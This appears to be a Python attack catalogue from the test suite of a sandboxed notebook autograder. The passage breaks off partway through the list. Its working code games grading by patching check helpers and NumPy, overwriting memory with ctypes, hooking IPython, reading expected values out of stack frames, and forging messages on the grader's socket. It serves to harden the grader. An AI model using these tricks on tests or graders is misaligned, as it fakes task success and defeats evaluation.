"""The attacks, as data: what a student hands in, and what it is after.

An attack is a few lines that stand in the cell of a solution (or a change to what is handed in).
They run after a cell of `PREAMBLE`, which gives away where everything lies. A wrong answer is part
of each: what the same answer earns honestly is the yardstick for `points`.

Attacks print `tried` when they have done what they could, so that one with a slip of the pen does
not pass for one that was stopped, and `reached:` where they got at something.
"""

from __future__ import annotations

import json
import shutil
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

POINTS, READ, REACH, OUTLIVE, STOP = (
    "gain a point with a wrong answer",
    "read a hidden test",
    "reach what is outside",
    "outlive the run",
    "stop the run",
)
AIMS = (POINTS, READ, REACH, OUTLIVE, STOP)

# The functions that attacks are made on, by lesson, and a line of their hidden tests.
KEPT = {"02_sigmoid": ("sigmoid", "sigmoid_derivative", "stable_sigmoid"), "03_losses": ("mse",)}
# Tests that the arena has besides, with their points: attacks need something to gain where a lent
# function is the answer in one test and not in another, and where arguments are to be left alone.
# The first edition of the course graded these.
_LENT = """
def right_sigmoid(x):
    return 0.5 * (1 + np.tanh(0.5 * np.asarray(x, dtype=float)))[()]


"""
MORE: dict[str, dict[str, tuple[int, str]]] = {
    "02_sigmoid": {
        "stable_sigmoid-lent-shape": (
            1,
            f"""### BEGIN HIDDEN TESTS{_LENT}rng = np.random.default_rng(221)
with replaced(globals(), sigmoid=right_sigmoid):
    for x in (1.5, -2.0, 0.0, rng.normal(size=5), rng.normal(size=(2, 4))):
        got = call(stable_sigmoid, x)
        check_shape("stable_sigmoid", got, np.shape(x))
        check_varies("stable_sigmoid", got, call(stable_sigmoid, x + 5))
    check_repeats("stable_sigmoid", got, call(stable_sigmoid, x))
### END HIDDEN TESTS""",
        ),
        "stable_sigmoid-lent-value": (
            1,
            f"""### BEGIN HIDDEN TESTS{_LENT}rng = np.random.default_rng(222)
x = np.append(rng.uniform(-6, 6, size=(3, 4)), [[-1000.0, 1000.0, -40.0, 0.0]], axis=0)
with replaced(globals(), sigmoid=right_sigmoid):
    for x in (x, np.array([-1000.0]), np.array([-2, 0, 3]), -1000, 1000.0):
        check_value("stable_sigmoid", call(stable_sigmoid, x), right_sigmoid(x))
### END HIDDEN TESTS""",
        ),
        "stable_sigmoid-lent-warning": (
            2,
            f"""### BEGIN HIDDEN TESTS
from lesson_kit.checks import CheckFailed, check_between


def naive_sigmoid(x):
    return 1 / (1 + np.exp(-x))

{_LENT}for x in (np.array([-1000.0, -710.0, 0.0, 2.0, 710.0, 1000.0]), np.array([[-1e6], [1e6]])):
    with replaced(globals(), sigmoid=right_sigmoid):
        own = call(stable_sigmoid, x)
    check_between("stable_sigmoid", own, -np.inf, np.inf)
    try:
        check_no_warning(stable_sigmoid, x)
        check_value("stable_sigmoid", call(stable_sigmoid, x), own)
    except CheckFailed:
        with replaced(globals(), sigmoid=naive_sigmoid):
            check_no_warning(stable_sigmoid, x)
            check_value("stable_sigmoid", call(stable_sigmoid, x), own)
### END HIDDEN TESTS""",
        ),
    },
    "03_losses": {
        "mse-unchanged": (
            1,
            """check_unchanged(mse, np.array([[2.0], [5.5]]), np.array([[3.0], [5.0]]))
### BEGIN HIDDEN TESTS
rng = np.random.default_rng(304)
check_unchanged(mse, *3 * rng.normal(size=(2, 5, 1)))
### END HIDDEN TESTS""",
        ),
    },
}
NEEDLES = {"02_sigmoid": "rng.uniform(0.5, 3, size=(3, 4))", "03_losses": "np.mean((p - y) ** 2)"}

PREAMBLE = """
import os, sys, time


def attempt(work, *args):
    try:
        print("reached:", work(*args))
    except BaseException as error:
        print("tried:", type(error).__name__, error)
"""
WRONG = "def mse(p, y):\n    return 42.0\n"
# Right where the visible test looks, and where the hidden one is easy.
KNOWN = "def mse(p, y):\n    return abs(p - y).sum() ** 2 / {3: 7, 4: 288 / 23}.get(p.size, 1)\n"
# A number that varies and repeats, and is another one where the rows are turned round.
FIRST = "def mse(p, y):\n    return float(p.ravel()[0] + 3 * y.ravel()[0])\n"
# Right at 0 and far from it.
FLAT = textwrap.dedent("""
    def sigmoid_derivative(x):
        return np.where(np.abs(x) < 40, 0.25 - 0.01 * np.abs(x), 0.0)[()]
    """)
RIGHT = {
    "mse": textwrap.dedent("""
        def mse(p, y):
            if len(p) != len(y):
                raise RuntimeError("sizes")
            return np.sum((p - y) ** 2) / len(p)
        """),
    "sigmoid": "def sigmoid(x):\n    return 1 / (1 + np.exp(-x))\n",
    "sigmoid_derivative": textwrap.dedent("""
        def sigmoid_derivative(x):
            return sigmoid(x) * (1 - sigmoid(x))
        """),
    "stable_sigmoid": textwrap.dedent("""
        def stable_sigmoid(x):
            small = np.exp(-np.abs(x))
            return np.where(np.asarray(x) >= 0, 1 / (1 + small), small / (1 + small))[()]
        """),
}


@dataclass(frozen=True)
class Attack:
    """One attack. `sign` is what its outputs must show, whether or not it comes to anything."""

    name: str
    aim: str
    what: str
    code: str = ""
    first: str = ""  # a cell of the student's own, above all others
    damage: Callable[[Path], None] | None = None  # to the folder that is handed in
    lesson: str = "03_losses"
    target: str = "mse"
    others: dict[str, str] = field(default_factory=dict, hash=False)
    honest: str = WRONG
    sign: str = "tried"
    seconds: float = 3.0  # that a cell may take, in the engine
    not_in_plain: str = ""  # what it would do to this machine in plain nbgrader

    @property
    def solution(self) -> str:
        """What stands in the solution's cell: the attack, with the wrong answer."""
        defined = f"def {self.target}(" in self.code or f"{self.target} =" in self.code
        return self.code if defined else f"{self.code}\n\n{self.honest}"


ATTACKS: list[Attack] = []


def attack(aim: str, name: str, what: str, code: str = "", **others: object) -> None:
    """Enter an attack."""
    first = textwrap.dedent(str(others.pop("first", "")))
    ATTACKS.append(Attack(name, aim, what, textwrap.dedent(code).strip(), first, **others))


# ---------------------------------------------------------------- gain a point

attack(
    POINTS,
    "patched np.allclose",
    "NumPy's comparison finds the wrong answer close to whatever is expected.",
    """
    def allclose(one, other, **_):
        caller = sys._getframe(2).f_code.co_name
        return caller == "check_value" and 42.0 in (float(np.sum(one)), float(np.sum(other)))

    np.allclose = allclose
    print("tried")
    """,
)
attack(
    POINTS,
    "patched np.mean",
    "The function that a test computes its expected value with returns the wrong answer.",
    """
    real = np.mean
    np.mean = lambda *args, **kwargs: np.float64(42.0 + real(args[0]) * 1e-9)
    print("tried")
    """,
)
attack(
    POINTS,
    "patched random numbers",
    "Hidden tests draw the same numbers every time, known beforehand.",
    """
    def draw(size):
        return np.random.RandomState(0).normal(size=size)

    class Fixed:
        def normal(self, size):
            return draw(size)
        uniform = normal

    known = {n: np.mean(np.diff(draw((2, n)), axis=0) ** 2) for n in (2, 4, 7)}
    np.random.default_rng = lambda *_: Fixed()
    print("tried")

    def mse(p, y):
        if p.shape in [(n,) for n in known] and np.array_equal([p, y], draw((2, p.size))):
            return known[p.size]
        return abs(p - y).sum() ** 2 / {3: 7, 4: 288 / 23}.get(p.size, 1)
    """,
    honest=KNOWN,
)
attack(
    POINTS,
    "patched checks: failing does nothing",
    "The helper that raises when a check fails is replaced in its module.",
    """
    from lesson_kit import checks

    checks._fail = lambda *_, **__: None
    print("tried")
    """,
)
attack(
    POINTS,
    "patched checks: swapped code",
    "The bytecode of the helper that raises is exchanged, so that every reference to it changes.",
    """
    from lesson_kit import checks

    def harmless(name, check, mistake, cause=None, /, **fields):
        return None

    checks._fail.__code__ = harmless.__code__
    print("tried")
    """,
)
attack(
    POINTS,
    "patched checks: tolerance",
    "The tolerances of the comparison are raised until everything is equal.",
    """
    from lesson_kit import checks

    checks.ATOL = 60.0
    print("tried")

    def mse(p, y):
        return 42.0 + np.sum(p)
    """,
    honest="def mse(p, y):\n    return 42.0 + np.sum(p)\n",
)
attack(
    POINTS,
    "checks overridden in the namespace",
    "The names that tests call mean functions of the student's that do nothing.",
    """
    def nothing(*args, **kwargs):
        return None

    check_shape = check_value = check_varies = check_error = nothing
    check_accepts = check_unchanged = check_between = nothing
    print("tried")
    """,
)
attack(
    POINTS,
    "NumPy replaced in the namespace",
    "The name np means an object whose every function returns the same.",
    """
    class Everything:
        def __getattr__(self, name):
            return lambda *args, **kwargs: 42.0

    real, np = np, Everything()
    print("tried")
    """,
)
attack(
    POINTS,
    "object that equals everything",
    "The result compares equal to whatever it is compared with.",
    """
    print("tried")

    class Equal(float):
        __eq__ = __ge__ = __le__ = __bool__ = lambda self, *other: True
        __ne__ = __lt__ = __gt__ = lambda self, *other: False
        __hash__ = float.__hash__
        __sub__ = __rsub__ = __abs__ = lambda self, *other: Equal(0)

    def mse(p, y):
        return Equal(42)
    """,
)
attack(
    POINTS,
    "object that turns into the expected array",
    "The result's __array__ looks for the expected value in the frame that converts it.",
    """
    print("tried")

    class Chameleon:
        shape, ndim, dtype, size = (), 0, np.dtype(float), 1

        def __array__(self, dtype=None, copy=None):
            frame, wanted, names = sys._getframe(1), None, []
            while frame:
                names.append(frame.f_code.co_name)
                wanted = frame.f_locals.get("second") if wanted is None else wanted
                frame = frame.f_back
            if wanted is None or isinstance(wanted, Chameleon):
                wanted = 1.0 if "check_repeats" in names else 42.0 + time.monotonic()
            return np.array(wanted, dtype=dtype)

    def mse(p, y):
        return Chameleon()
    """,
)
attack(
    POINTS,
    "array with its own NumPy functions",
    "A subclass of array answers NumPy's functions about itself (__array_function__).",
    """
    print("tried")

    class Lying(np.ndarray):
        def __array_function__(self, function, types, args, kwargs):
            return {"shape": (), "allclose": True}.get(function.__name__, 0.0)

        def __array_ufunc__(self, ufunc, method, *args, **kwargs):
            return True

        def __array_finalize__(self, source):
            self.lied = True

    def mse(p, y):
        return np.array(42.0 + np.sum(p)).view(Lying)
    """,
    honest="def mse(p, y):\n    return np.array(42.0 + np.sum(p))\n",
)
attack(
    POINTS,
    "str that is a number",
    "A text with the methods of a number is returned.",
    """
    print("tried")

    class Text(str):
        dtype, shape, ndim = np.dtype(float), (), 0
        __float__ = lambda self: 1.75
        __array__ = lambda self, *_, **__: np.array(1.75)
        __eq__ = lambda self, other: True
        __hash__ = str.__hash__

    def mse(p, y):
        return Text(len(p))
    """,
)
attack(
    POINTS,
    "masked and NaN results",
    "Values that careless comparisons take for equal: NaN, and a masked number.",
    """
    print("tried")

    def mse(p, y):
        return np.ma.masked if p.size % 2 else np.float64("nan")
    """,
)
attack(
    POINTS,
    "empty and broadcast results",
    "An empty array is close to everything, a column broadcasts against a row.",
    """
    print("tried")

    def mse(p, y):
        return np.zeros((0,)) if p.ndim == 1 else np.broadcast_to(p, (3, *p.shape))
    """,
    honest="def mse(p, y):\n    return 2 * p\n",
)
attack(
    POINTS,
    "whole integer of 5,000 digits",
    "A number that no float can hold, and that cannot be written in decimal by default.",
    """
    print("tried")

    def mse(p, y):
        sys.set_int_max_str_digits(0)
        return 10 ** 5000 + len(p)
    """,
)
attack(
    POINTS,
    "list that contains itself",
    "A result without an end.",
    """
    print("tried")

    def mse(p, y):
        result = [1.75]
        result.append(result)
        return result
    """,
)
attack(
    POINTS,
    "generator that learns from its reader",
    "A lazy result, whose values are made when the test looks at them.",
    """
    print("tried")

    def mse(p, y):
        def values():
            yield sys._getframe(1).f_locals.get("second", 1.75)
        return values()
    """,
)
attack(
    POINTS,
    "exception that lies about its class",
    "An exception says of itself that it is a RuntimeError, and of its class that it is one.",
    """
    print("tried")

    class Meta(type):
        __instancecheck__ = __subclasscheck__ = lambda *_: True
        __name__ = "RuntimeError"

    class Lie(Exception, metaclass=Meta):
        __class__ = RuntimeError
        __module__ = "builtins"

    Lie.__qualname__ = "RuntimeError"

    def mse(p, y):
        raise Lie
    """,
    honest="def mse(p, y):\n    raise ValueError\n",
)
attack(
    POINTS,
    "exception without a text",
    "An exception's __str__, __repr__ and _render_traceback_ raise, or return no text.",
    """
    print("tried")

    class Mute(Exception):
        def __str__(self):
            raise SystemExit
        __repr__ = __str__
        def _render_traceback_(self):
            return None

    def mse(p, y):
        raise Mute
    """,
    honest="def mse(p, y):\n    raise ValueError\n",
)
attack(
    POINTS,
    "SystemExit, KeyboardInterrupt, GeneratorExit",
    "What is not an Exception is raised, past every `except Exception`.",
    """
    print("tried")
    calls = []

    def mse(p, y):
        calls.append(1)
        raise (SystemExit(0), KeyboardInterrupt(), GeneratorExit())[len(calls) % 3]
    """,
    honest="def mse(p, y):\n    raise ValueError\n",
)
attack(
    POINTS,
    "asks the stack which check calls",
    "The function raises RuntimeError only where the check that wants one calls it.",
    """
    print("tried")

    def mse(p, y):
        frame = sys._getframe()
        while frame:
            if frame.f_code.co_name == "check_error":
                raise RuntimeError
            frame = frame.f_back
        return 42.0
    """,
)
attack(
    POINTS,
    "expected value out of the frames",
    "The function looks through the callers' frames for the value that the test has computed.",
    """
    print("tried")

    def mse(p, y):
        frame = sys._getframe(1)
        while frame:
            if "right" in frame.f_locals:
                return float(frame.f_locals["right"])
            frame = frame.f_back
        return float(p.ravel()[0] + 3 * y.ravel()[0])
    """,
    honest=FIRST,
)
attack(
    POINTS,
    "expected value out of the garbage collector",
    "Every object of the process is searched for the value that the test has computed.",
    """
    import gc
    print("tried")

    def sigmoid_derivative(x):
        for space in [one for one in gc.get_objects() if type(one) is dict]:
            if {"right_sigmoid", "s"} <= space.keys() and np.shape(space["s"]) == np.shape(x):
                return space["s"] * (1 - space["s"])
        return np.where(np.abs(x) < 40, 0.25 - 0.01 * np.abs(x), 0.0)[()]
    """,
    lesson="02_sigmoid",
    target="sigmoid_derivative",
    honest=FLAT,
)
attack(
    POINTS,
    "IPython AST transformer",
    "Every check in a later cell is cut out of its syntax tree.",
    """
    import ast

    class Cut(ast.NodeTransformer):
        def visit_Expr(self, node):
            return ast.copy_location(ast.Pass(), node)

    get_ipython().ast_transformers.append(Cut())
    print("tried")
    """,
)
attack(
    POINTS,
    "IPython input transformer",
    "The text of every later cell with a check becomes `pass`.",
    """
    def blank(lines):
        return ["pass\\n"] if any("check_" in line for line in lines) else lines

    get_ipython().input_transformers_cleanup.append(blank)
    print("tried")
    """,
)
attack(
    POINTS,
    "overridden run_cell",
    "IPython's own function that runs a cell is replaced by one that runs nothing.",
    """
    from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult

    def run_cell(*args, **kwargs):
        return ExecutionResult(ExecutionInfo("", False, False, False, None))

    get_ipython().run_cell = run_cell
    type(get_ipython()).run_cell = run_cell
    type(get_ipython()).run_cell_async = run_cell
    print("tried")
    """,
)
attack(
    POINTS,
    "overridden do_execute",
    "The kernel's function that answers a request to execute says `ok` to all.",
    """
    async def do_execute(*args, **kwargs):
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}

    kernel = getattr(get_ipython(), "kernel", None)
    if kernel is not None:
        kernel.do_execute = do_execute
    print("tried")
    """,
)
attack(
    POINTS,
    "silent tracebacks",
    "Errors are raised, and IPython shows none of them.",
    """
    ip = get_ipython()
    ip.showtraceback = ip.showsyntaxerror = ip._showtraceback = lambda *args, **kwargs: None
    print("tried")
    """,
)
attack(
    POINTS,
    "own handler of exceptions",
    "IPython's own interface for handling exceptions swallows them.",
    """
    get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: [])
    print("tried")
    """,
)
attack(
    POINTS,
    "points shown by the display hook",
    "The function shows 8.0 while a test calls it: nbgrader takes that for partial credit.",
    """
    print("tried")

    def mse(p, y):
        sys.displayhook(1.0)
        get_ipython().displayhook(1.0)
        return 42.0
    """,
)
attack(
    POINTS,
    "points published as a kernel message",
    "The function sends a message `execute_result` of its own while a test calls it.",
    """
    print("tried")

    def mse(p, y):
        kernel = getattr(get_ipython(), "kernel", None)
        content = {"data": {"text/plain": "1.0"}, "metadata": {}, "execution_count": 1}
        if kernel is not None:
            parent = kernel.get_parent()
            kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=parent)
        get_ipython().display_pub.publish({"text/plain": "1.0"}, metadata={})
        return 42.0
    """,
)
attack(
    POINTS,
    "hook before every cell",
    "A callback of IPython's patches the checks each time a cell begins.",
    """
    def patch(*_):
        sys.modules["lesson_kit.checks"]._fail = lambda *_, **__: None

    get_ipython().events.register("pre_run_cell", patch)
    get_ipython().events.register("pre_execute", patch)
    print("tried")
    """,
)
attack(
    POINTS,
    "hook at the first call",
    "Nothing is wrong while the cell is defined; the first call patches the checks.",
    """
    print("tried")

    def mse(p, y):
        import lesson_kit.checks as checks
        checks._same = lambda one, other: other is not one and 1.75 not in (one, other)
        checks._fail = lambda *_, **__: None
        checks.call = lambda function, *args: 1.75
        return 42.0
    """,
)
attack(
    POINTS,
    "background thread",
    "A thread waits for the tests and then patches the checks.",
    """
    import threading

    def work():
        while True:
            time.sleep(0.005)
            checks = sys.modules["lesson_kit.checks"]
            checks._fail = lambda *_, **__: None

    threading.Thread(target=work, daemon=True).start()
    print("tried")
    """,
)
attack(
    POINTS,
    "trace function",
    "sys.settrace rewrites the locals of the check that runs.",
    """
    import ctypes

    def trace(frame, event, _):
        if frame.f_code.co_name == "check_value":
            frame.f_locals["result"] = frame.f_locals["expected"]
            refresh = ctypes.pythonapi.PyFrame_LocalsToFast
            refresh(ctypes.py_object(frame), ctypes.c_int(0))

    sys.settrace(trace)
    print("tried")

    def mse(p, y):
        sys.settrace(trace)
        return 42.0
    """,
)
attack(
    POINTS,
    "profile function",
    "sys.setprofile patches the checks as soon as one of them is called.",
    """
    def profile(frame, event, _):
        if event == "call" and frame.f_code.co_name.startswith("check_"):
            frame.f_globals["_fail"] = lambda *_, **__: None

    sys.setprofile(profile)
    print("tried")

    def mse(p, y):
        sys.setprofile(profile)
        return 42.0
    """,
)
attack(
    POINTS,
    "poisoned sys.modules",
    "A cell above all others puts a module of its own in the place of the checks.",
    first="""
    import types

    def nothing(*args, **kwargs):
        return None

    class Poison(types.ModuleType):
        def __getattr__(self, name):
            return (lambda *_: 1.0) if name == "call" else nothing

    sys.modules["lesson_kit.checks"] = Poison("lesson_kit.checks")
    print("tried")
    """,
)
attack(
    POINTS,
    "import hook",
    "A finder at the head of sys.meta_path imports the checks, and changes them on the way.",
    first="""
    import importlib.abc, importlib.machinery

    class Finder(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path, target=None):
            if name != "lesson_kit.checks":
                return None
            spec = importlib.machinery.PathFinder.find_spec(name, path)
            run = spec.loader.exec_module
            def exec_module(module):
                run(module)
                module._fail = lambda *_, **__: None
            spec.loader.exec_module = exec_module
            return spec

    sys.meta_path.insert(0, Finder())
    print("tried")
    """,
)
attack(
    POINTS,
    "builtin compile replaced",
    "Whatever holds a check is compiled to nothing.",
    """
    import ast, builtins
    real = builtins.compile

    def fake(source, *args, **kwargs):
        if isinstance(source, ast.AST) and "check_" in ast.unparse(source):
            return real("None", "x", "exec")
        return real(source, *args, **kwargs)

    builtins.compile = fake
    print("tried")
    """,
)
attack(
    POINTS,
    "builtins replaced",
    "AssertionError, print and all mean something else.",
    """
    import builtins
    from lesson_kit import checks

    class Nothing(Exception):
        pass

    print("tried")
    builtins.AssertionError = AssertionError = Nothing
    builtins.all = lambda *_: True
    builtins.print = lambda *_, **__: None
    checks.CheckFailed.__init__ = lambda self, *_: None
    """,
)
attack(
    POINTS,
    "memory written by ctypes",
    "The pointer to the bytecode of the helper that raises is overwritten in memory.",
    """
    import ctypes
    from lesson_kit import checks

    def harmless(name, check, mistake, cause=None, /, **fields):
        return None

    keep = harmless.__code__
    pointer = ctypes.c_void_p(id(keep))
    ctypes.pythonapi.Py_IncRef(ctypes.py_object(keep))
    ctypes.memmove(id(checks._fail) + 48, ctypes.byref(pointer), 8)
    print("tried")
    """,
)
attack(
    POINTS,
    "arguments changed in place",
    "The arguments are made equal and of another shape, so that the test compares nonsense.",
    """
    print("tried")

    def mse(p, y):
        if len(p) == len(y):
            p[...] = y
            p.shape = (1, *p.shape)
        return 0.0
    """,
    honest="def mse(p, y):\n    return 0.0\n",
)
attack(
    POINTS,
    "arguments restored later",
    "A thread puts the changed arguments back after the function has returned.",
    """
    import threading
    print("tried")

    def mse(p, y):
        kept = p.copy()
        p[...] = 7.0
        threading.Timer(0.001, lambda: p.__setitem__(Ellipsis, kept)).start()
        return p.sum()
    """,
    honest="def mse(p, y):\n    return p.sum()\n",
)
attack(
    POINTS,
    "stashed callbacks",
    "The right functions that one test lends are kept, and used in the tests of another function.",
    """
    print("tried")

    def stable_sigmoid(x):
        return stash[-1](x) if stash else sigmoid(x)
    """,
    lesson="02_sigmoid",
    target="stable_sigmoid",
    others={
        "sigmoid": RIGHT["sigmoid"],
        "sigmoid_derivative": "stash = []\n\ndef sigmoid_derivative(x):\n"
        "    stash.append(sigmoid)\n    return sigmoid(x) * (1 - sigmoid(x))\n",
    },
    honest="def stable_sigmoid(x):\n    return sigmoid(x)\n",
)
attack(
    POINTS,
    "leaning on what a test lends",
    "Where a test has lent a right function, it answers; elsewhere anything that does not warn.",
    """
    own = sigmoid
    print("tried")

    def stable_sigmoid(x):
        return sigmoid(x) if sigmoid is not own else np.tanh(x)
    """,
    lesson="02_sigmoid",
    target="stable_sigmoid",
    others={"sigmoid": RIGHT["sigmoid"], "sigmoid_derivative": RIGHT["sigmoid_derivative"]},
    honest="def stable_sigmoid(x):\n    return sigmoid(x)\n",
)
attack(
    POINTS,
    "a table of what was lent",
    "While a test lends a right sigmoid, it is asked for thousands of values; they are kept.",
    """
    print("tried")

    def stable_sigmoid(x):
        if table:
            return np.interp(x, *table[0])[()]
        return sigmoid(x)
    """,
    lesson="02_sigmoid",
    target="stable_sigmoid",
    others={
        "sigmoid": "def sigmoid(x):\n    return 1 / (1 + np.exp(x))\n",
        "sigmoid_derivative": "table = []\n\ndef sigmoid_derivative(x):\n"
        "    grid = np.linspace(-1100, 1100, 80_001)\n"
        "    table.append((grid, sigmoid(grid)))\n"
        "    return sigmoid(x) * (1 - sigmoid(x))\n",
    },
    honest="def stable_sigmoid(x):\n    return sigmoid(x)\n",
)
attack(
    POINTS,
    "results remembered by their bytes",
    "What a lent function answered is given again where the same input comes without it.",
    """
    print("tried")
    known = {}

    def stable_sigmoid(x):
        key = np.asarray(x, dtype=float).tobytes()
        if key not in known:
            known[key] = sigmoid(x)
        return known[key]
    """,
    lesson="02_sigmoid",
    target="stable_sigmoid",
    others={"sigmoid": RIGHT["sigmoid"], "sigmoid_derivative": RIGHT["sigmoid_derivative"]},
    honest="def stable_sigmoid(x):\n    return sigmoid(x)\n",
)
attack(
    POINTS,
    "results remembered in a file, a module and the environment",
    "Three places that outlive a call hold what a lent function answered.",
    """
    import json
    print("tried")

    def recall(key):
        for look in (
            lambda: json.load(open("known"))[key],
            lambda: sys.modules["numpy"].known[key],
            lambda: json.loads(os.environ["known"])[key],
        ):
            try:
                return np.array(look())
            except (OSError, LookupError, ValueError, AttributeError):
                pass

    def stable_sigmoid(x):
        key = repr(np.asarray(x, dtype=float).tolist())
        found = recall(key)
        if found is None:
            found = np.asarray(sigmoid(x))
            kept = {key: found.tolist()}
            with open("known", "w") as file:
                json.dump(kept, file)
            sys.modules["numpy"].known = kept
            os.environ["known"] = json.dumps(kept)
        return found[()]
    """,
    lesson="02_sigmoid",
    target="stable_sigmoid",
    others={"sigmoid": RIGHT["sigmoid"], "sigmoid_derivative": RIGHT["sigmoid_derivative"]},
    honest="def stable_sigmoid(x):\n    return sigmoid(x)\n",
)
attack(
    POINTS,
    "a lent function that is kept",
    "The function itself, not its values, is kept for the call in which it is no longer lent.",
    """
    print("tried")
    kept, own = [], sigmoid

    def stable_sigmoid(x):
        if sigmoid is not own:
            kept.append(sigmoid)
        return (kept[-1] if kept else sigmoid)(x)
    """,
    lesson="02_sigmoid",
    target="stable_sigmoid",
    others={"sigmoid": RIGHT["sigmoid"], "sigmoid_derivative": RIGHT["sigmoid_derivative"]},
    honest="def stable_sigmoid(x):\n    return sigmoid(x)\n",
)
attack(
    POINTS,
    "columns remembered from rows",
    "Wrong for columns; what a row of the same bytes, in any order, gave is given again.",
    """
    print("tried")
    known = {}

    def mse(p, y):
        if len(p) != len(y):
            raise RuntimeError
        key = p.tobytes(), y.tobytes()
        loss = np.sum((p - y) ** 2) / p.shape[-1]
        return known.setdefault(key, loss)
    """,
    honest="def mse(p, y):\n    if len(p) != len(y):\n        raise RuntimeError\n"
    "    return np.sum((p - y) ** 2) / p.shape[-1]\n",
)
attack(
    POINTS,
    "constant and the number of the call",
    "Nothing is computed, and yet no two results are the same.",
    """
    print("tried")
    calls = []

    def mse(p, y):
        calls.append(1)
        return 42.0 + len(calls)
    """,
)
attack(
    POINTS,
    "changes that are not told",
    "The student process says that it changed no argument; the copy that it changed is its own.",
    """
    from nbjudge.run import wire

    wire.changes = lambda *_: []
    print("tried")

    def mse(p, y):
        if len(p) != len(y):
            raise RuntimeError
        result = np.sum((p - y) ** 2) / len(p)
        p[...] = 0.0
        return result
    """,
    honest=RIGHT["mse"],
)
attack(
    POINTS,
    "recursion errors for RuntimeErrors",
    "RecursionError is a RuntimeError: running out of stack passes for a checked argument.",
    """
    print("tried")

    def mse(p, y):
        return p - y + mse(p, y) if len(p) == len(y) else mse(p, y)
    """,
    honest="def mse(p, y):\n    raise RuntimeError\n",
)

# What the student's side of the line can be made to say. The channel is a socket; every attack of
# this kind speaks on it directly, past everything that `nbjudge.run.student` does.
CHANNEL = """
import json, stat, struct


def channel():
    for fd in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise OSError("no socket")


def send(data):
    if not isinstance(data, bytes):
        data = json.dumps(data).encode()
    os.write(channel(), struct.pack("!i", len(data)) + data)


def receive():
    def read(count):
        data = b""
        while len(data) < count:
            data += os.read(channel(), count - len(data)) or os._exit(1)
        return data
    return json.loads(read(struct.unpack("!i", read(4))[0]))


def done(result, **others):
    message = {"op": "done", "result": result, "changes": [], "printed": [], "warnings": []}
    return message | others


"""
NO_KERNEL = "if not hasattr(get_ipython(), 'kernel'):\n    "


# Wrong, but it varies with its input and repeats: what answers of any kind can honestly earn.
VARIED = "def mse(p, y):\n    return 1.75 + float(np.sum(p))\n"


def protocol(name: str, what: str, code: str, aim: str = POINTS, **others: object) -> None:
    """Enter an attack that speaks on the channel."""
    attack(aim, name, what, CHANNEL + textwrap.dedent(code), **others)


protocol(
    "forged answer to a call",
    "The function writes an answer of its own on the channel, with points in it.",
    """
    print("tried")

    def mse(p, y):
        shown = {"output_type": "execute_result", "data": {"text/plain": "8.0"}}
        send(done(1.75, outputs=[shown], points=8.0, names=["mse"], values={"mse": ["function"]}))
        return 42.0
    """,
    honest=VARIED,
)
protocol(
    "forged answers in advance",
    "A hundred answers lie in the channel before the first question comes.",
    """
    for _ in range(100):
        send(done(1.75, outputs=[], values={"mse": ["function"]}))
    print("tried")
    """,
    sign="1.75",
)
protocol(
    "the channel taken over",
    "The student's own loop answers every order: functions that do not exist, values at will.",
    """
    def serve():
        count = 0
        while True:
            order, count = receive(), count + 1
            if order["op"] == "run":
                send({"op": "ran", "outputs": [
                    {"output_type": "stream", "name": "stdout", "text": "tried"},
                    {"output_type": "execute_result", "data": {"text/plain": "8.0"}},
                ]})
            elif order["op"] == "look":
                send({"op": "names", "values": {
                    name: ["function"] for name in [*order["names"], "np", "call", "check_value"]
                }})
            else:
                send(done(1.75 + count, points=8.0))

    if not hasattr(get_ipython(), "kernel"):
        send({"op": "ran", "outputs": []})
        serve()
    print("tried")
    """,
    sign="✓ mse",
    honest=VARIED,
)
protocol(
    "values in the place of functions",
    "The judge is told that the names of tests and checks mean plain values of the student's.",
    """
    def serve():
        while True:
            order = receive()
            names = ["mse", "call", "check_value", "np", "__builtins__", "right"]
            values = {name: ["value", ["list", [1.75]]] for name in names}
            send({"op": "names", "outputs": [], "values": values})

    if not hasattr(get_ipython(), "kernel"):
        send({"op": "ran", "outputs": []})
        serve()
    print("tried")
    """,
    sign="TypeError|tried",
)
protocol(
    "malformed messages",
    "Answers that are not JSON, not objects, without a kind, with NaN, twice the same key.",
    """
    print("tried")
    calls = []
    texts = [b"", b"{", b"[]", b'{"op": 1}', b'{"op": "done"}', b'{"op": "done", "op": "x"}',
             b'\\xff\\xfe', b'{"op": "done", "result": NaN, "changes": {}}', b"[" * 100_000]

    def mse(p, y):
        calls.append(1)
        send(texts[len(calls) % len(texts)])
        return 42.0
    """,
)
protocol(
    "message of four gigabytes",
    "The header of a message announces more than any memory holds, or less than nothing.",
    """
    print("tried")
    calls = []

    def mse(p, y):
        calls.append(1)
        huge = struct.pack("!i", -1) + struct.pack("!Q", 2 ** 62)
        os.write(channel(), huge if len(calls) % 2 else struct.pack("!i", 2 ** 31 - 1))
        return 42.0
    """,
)
protocol(
    "half a message",
    "An answer begins, and never ends.",
    """
    print("tried")

    def mse(p, y):
        os.write(channel(), struct.pack("!i", 1000) + b'{"op": "done", ')
        while True:
            time.sleep(1)
    """,
    aim=STOP,
    seconds=0.6,
)
protocol(
    "calls without an end",
    "The function asks the judge for functions that it never lent, by number and by name.",
    """
    print("tried")
    targets = [0, -1, True, 10 ** 30, "eval", "__import__", ["list", []], None]
    calls = []
    empty = {"args": ["tuple", []], "kwargs": ["dict", []], "changes": []}
    errors = {"divide": "warn", "over": "warn", "under": "warn", "invalid": "warn"}

    def mse(p, y):
        calls.append(1)
        send({"op": "call", "target": targets[len(calls) % 8], "errors": errors, **empty})
        return 42.0
    """,
)
protocol(
    "forged arrays",
    "Arrays of objects, of dates, of negative or overflowing shape, with the wrong length.",
    """
    print("tried")
    nodes = [
        ["array", "|O", [1], "AAAAAAAAAAA=", ""], ["array", "<M8[s]", [1], "AAAAAAAAAAA=", ""],
        ["array", "<f8", [-1], "AAAAAAAAAAA=", ""], ["array", "<f8", [2 ** 62, 4], "", ""],
        ["array", "<f8", [2], "AAAAAAAAAAA=", ""], ["array", "<f8", [0] * 70, "", ""],
        ["scalar", "|V8", "AAAAAAAAAAA="], ["array", "<f8,<f8", [1], "AAAAAAAAAAA=", ""],
